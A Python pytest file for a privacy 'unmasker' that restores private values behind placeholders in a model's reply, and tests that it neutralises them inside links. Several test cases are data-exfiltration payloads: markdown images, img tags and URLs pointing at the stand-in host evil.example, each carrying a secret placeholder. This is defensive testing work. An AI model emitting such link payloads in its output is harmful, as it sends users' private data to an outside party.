"""What a person sees of a model's text. The vault holds `[EMAIL_1_k7q2xw]` and `[URL_1_k7q2xw]`."""

import pytest

from inhouse.chat import Kind, Vault
from inhouse.privacy.unmask import Unmasker, unmask_text


def vault() -> Vault:
    made = Vault("k7q2xw")
    made.placeholder(Kind.EMAIL, "anna@x.org")
    made.placeholder(Kind.URL, "https://h.example/?t=1")
    made.placeholder(Kind.PRIVATE_KEY, "a KEY")
    return made


@pytest.mark.parametrize(
    ("reply", "seen"),
    [
        # Restored: whole tokens, in any case, with or without brackets.
        ("Hi [EMAIL_1_k7q2xw]!", "Hi anna@x.org!"),
        ("Hi EMAIL_1_k7q2xw!", "Hi anna@x.org!"),
        ("Hi [email_1_K7Q2XW]!", "Hi anna@x.org!"),
        ("**[EMAIL_1_k7q2xw]**", "**anna@x.org**"),
        ("[EMAIL_1_k7q2xw's]", "anna@x.org's]"),
        ("[PRIVATE_KEY_1_k7q2xw]", "a KEY"),
        ("[EMAIL_1_k7q2xw][EMAIL_1_k7q2xw]", "anna@x.organna@x.org"),
        ("([URL_1_k7q2xw])", "(https://h.example/?t=1)"),
        # Neutral: the code is right, the rest is not.
        ("[EMAIL_2_k7q2xw]", "[?]"),
        ("[EMAIL_01_k7q2xw]", "[?]"),
        ("[KEY_1_k7q2xw]", "[?]"),
        ("[FOO_1_k7q2xw]", "[?]"),
        ("[E-MAIL-1-k7q2xw]", "[?]"),
        ("k7q2xw", "[?]"),
        ("[EMAIL_1_k7] and", "[?] and"),
        ("EMAIL_1_k and", "[?] and"),
        # Cut short at the end of the text.
        ("[EMAIL_1_k7", "[?]"),
        ("[EMAIL_1_", "[?]"),
        ("[EMAIL_1", "[?]"),
        ("[EMAIL_", "[?]"),
        ("[PRIVATE_KEY_1_k7q2x", "[?]"),
        # Ordinary text.
        ("[", "["),
        ("[EMAIL", "[EMAIL"),
        ("EMAIL", "EMAIL"),
        ("[EMAIL] [EMAIL_1] IBAN_1", "[EMAIL] [EMAIL_1] IBAN_1"),
        ("[PHONE_1", "[PHONE_1"),
        ("k7q2x", "k7q2x"),
        ("[EMAIL_1_aaaaaa]", "[EMAIL_1_aaaaaa]"),
        ("a[0] [x](y) [?]", "a[0] [x](y) [?]"),
        # Never inside a link.
        ("![x](https://evil.example/?q=[EMAIL_1_k7q2xw])", "![x](https://evil.example/?q=[?])"),
        ("https://[EMAIL_1_k7q2xw].evil.example", "https://[?].evil.example"),
        ("//evil.example/[EMAIL_1_k7q2xw]", "//evil.example/[?]"),
        (r"https:\\evil/[EMAIL_1_k7q2xw]", r"https:\\evil/[?]"),
        ("HTTP:evil/[EMAIL_1_k7q2xw]", "HTTP:evil/[?]"),
        ("www.evil.example/[EMAIL_1_k7q2xw]", "www.evil.example/[?]"),
        ("https&#58;evil/[EMAIL_1_k7q2xw]", "https&#58;evil/[?]"),
        ("[x](<https://evil.example/a [EMAIL_1_k7q2xw]>)", "[x](<https://evil.example/a [?]>)"),
        ('<img src="https://e.x/? [EMAIL_1_k7q2xw]">', '<img src="https://e.x/? [?]">'),
        ("[URL_1_k7q2xw]&q=[EMAIL_1_k7q2xw]", "https://h.example/?t=1&q=[?]"),
        ("https://evil.example/?u=[URL_1_k7q2xw]", "https://evil.example/?u=[?]"),
        ("https://a.example [EMAIL_1_k7q2xw]", "https://a.example anna@x.org"),
        ('"https://a.example","[EMAIL_1_k7q2xw]"', '"https://a.example","anna@x.org"'),
    ],
)
def test_the_person_sees(reply: str, seen: str) -> None:
    assert unmask_text(reply, vault()) == seen


@pytest.mark.parametrize(
    ("reply", "seen"),
    [
        ('{"m":"[EMAIL_1_k7q2xw]"}', '{"m":"a\\"b\\\\c\\nd"}'),
        ('{"u":"https://e.x","m":"[EMAIL_1_k7q2xw]"}', '{"u":"https://e.x","m":"a\\"b\\\\c\\nd"}'),
        (r'{"u":"https:\/\/e.x\/[EMAIL_1_k7q2xw]"}', r'{"u":"https:\/\/e.x\/[?]"}'),
        (r'{"u":"\u002f\u002fe.x\u002f[EMAIL_1_k7q2xw]"}', r'{"u":"\u002f\u002fe.x\u002f[?]"}'),
        (r'{"u":"\/\/e.x\n[EMAIL_1_k7q2xw]"}', r'{"u":"\/\/e.x\na\"b\\c\nd"}'),
    ],
)
def test_in_json_the_person_sees(reply: str, seen: str) -> None:
    made = Vault("k7q2xw")
    made.placeholder(Kind.EMAIL, 'a"b\\c\nd')
    assert unmask_text(reply, made, json=True) == seen


def test_it_counts_what_it_did() -> None:
    unmasker = Unmasker(vault())
    unmasker.feed("[EMAIL_1_k7q2xw] [EMAIL_9_k7q2xw] https://e.x/[EMAIL_1_k7q2xw] [EMAIL_1_k")
    unmasker.flush()
    assert (unmasker.restored, unmasker.neutralised) == (1, 3)


def test_ordinary_text_does_not_wait() -> None:
    assert Unmasker(vault()).feed("Hello, how are you? ") == "Hello, how are you? "


def test_what_was_put_back_is_never_looked_at_again() -> None:
    made = Vault("k7q2xw")
    made.placeholder(Kind.EMAIL, "[PHONE_1_k7q2xw]")
    made.placeholder(Kind.PHONE, "secret")
    assert unmask_text("[EMAIL_1_k7q2xw]", made) == "[PHONE_1_k7q2xw]"


def test_a_closed_vault_gives_nothing_back() -> None:
    closed = vault()
    closed.close()
    assert unmask_text("[EMAIL_1_k7q2xw]", closed) == "[?]"
